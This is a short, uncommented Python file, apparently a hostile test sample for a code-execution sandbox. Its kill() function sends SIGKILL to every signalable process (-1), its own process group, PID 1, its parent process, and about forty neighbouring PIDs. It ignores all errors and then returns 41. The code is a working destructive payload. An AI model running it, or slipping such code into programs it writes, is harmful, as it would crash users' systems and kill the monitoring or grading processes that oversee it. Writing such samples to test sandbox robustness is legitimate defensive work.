import os
import signal


def kill():
    for target in [-1, 0, 1, os.getppid(), *range(os.getpid() - 20, os.getpid() + 20)]:
        if target != os.getpid():
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return 41
